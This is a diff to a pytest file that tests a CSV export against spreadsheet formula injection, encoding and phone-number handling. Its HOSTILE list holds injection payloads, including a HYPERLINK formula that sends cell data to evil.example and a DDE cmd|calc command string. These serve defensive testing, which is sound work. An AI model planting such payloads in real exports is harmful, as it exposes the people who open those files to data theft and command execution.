@@ -41,9 +41,10 @@ def listed_ids(response) -> list[int]:
 def exported(response) -> list[dict[str, str]]:
     assert response.status_code == 200, response
     assert response.streaming
-    assert response["Content-Type"] == "text/csv"
-    text = b"".join(response.streaming_content).decode()
-    rows = list(csv.reader(io.StringIO(text)))
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    data = b"".join(response.streaming_content)
+    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8's byte order mark, for spreadsheet programs
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
     assert rows[0] == MESSAGE_CSV_COLUMNS
     return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
 
@@ -206,6 +207,11 @@ def test_export_defuses_formulas(admin_client_, content):
         ("plain", "plain"),
         ("a=b", "a=b"),
         ("=1", "'=1"),
+        (" =1", "' =1"),
+        ("x;=1", "x;'=1"),
+        ("x, -1", "x,' -1"),
+        ("x\n@a", "x\n'@a"),
+        ("a-b, a+b", "a-b, a+b"),
         ("", ""),
         (None, ""),
         (7, "7"),
@@ -214,6 +220,65 @@ def test_export_defuses_formulas(admin_client_, content):
 )
 def test_csv_safe(value, cell):
     assert csv_safe(value) == cell
+
+
+# Hostile content and what a spreadsheet would see; each is exported, then opened with
+# Python's csv module under "," and under ";" (the list separator where the decimal
+# separator is a comma): no cell may begin with a formula, even behind whitespace or quotes.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    'x;=HYPERLINK("http://evil.example")',
+    "x,=1+1",
+    "x;  @SUM(1+1)*cmd|' /C calc'!A0",
+    " =1+1",
+    "\n=1+1",
+    "\r\n+1+1",
+    "\t=1+1",
+    "hello;\n-2+3",
+    'x;"=1+1"',
+    "a\tb\t=c",
+    '"=1+1"',
+    "one;two, three\nfour",
+]
+FORMULA_STARTS = ("=", "+", "-", "@")
+
+
+def starts_a_formula(cell: str) -> bool:
+    return cell.lstrip(' \t\r\n"').startswith(FORMULA_STARTS)
+
+
+def cells(data: bytes, delimiter: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
+
+
+@pytest.mark.parametrize("content", HOSTILE)
+def test_no_exported_cell_begins_a_formula_under_either_separator(admin_client_, content):
+    message = make_message(status=Status.FAILED, content=content, last_error=content, provider_message_id=content)
+    data = b"".join(admin_client_.get(EXPORT).streaming_content)
+
+    [header, row] = cells(data, ",")
+    row = dict(zip(header, row, strict=True))
+    assert row["content"] == row["last_error"] == row["provider_message_id"] == csv_safe(content)
+    assert row["recipient_phone_number"] == message.recipient_phone_number  # as stored, not neutralised
+    assert not any(starts_a_formula(cell) for name, cell in row.items() if name != "recipient_phone_number")
+
+    for line in cells(data, ";"):
+        assert not any(starts_a_formula(cell) for cell in line), line
+
+
+def test_non_ascii_content_survives_the_export_as_utf8(admin_client_):
+    text = "Şükran: ğüşıöç ÇĞİÖŞÜ, 日本語, \N{GRINNING FACE}"
+    make_message(content=text)
+    [row] = exported(admin_client_.get(EXPORT))
+    assert row["content"] == text
+
+
+def test_phone_numbers_stay_as_they_are_stored(admin_client_):
+    message = make_message(recipient_phone_number="+905551112233")
+    data = b"".join(admin_client_.get(EXPORT).streaming_content)
+    assert b",+905551112233," in data  # unquoted and unprefixed: the number as text
+    [row] = exported(admin_client_.get(EXPORT))
+    assert row["recipient_phone_number"] == message.recipient_phone_number
 
 
 def test_export_keeps_commas_quotes_and_newlines_in_one_cell(admin_client_):
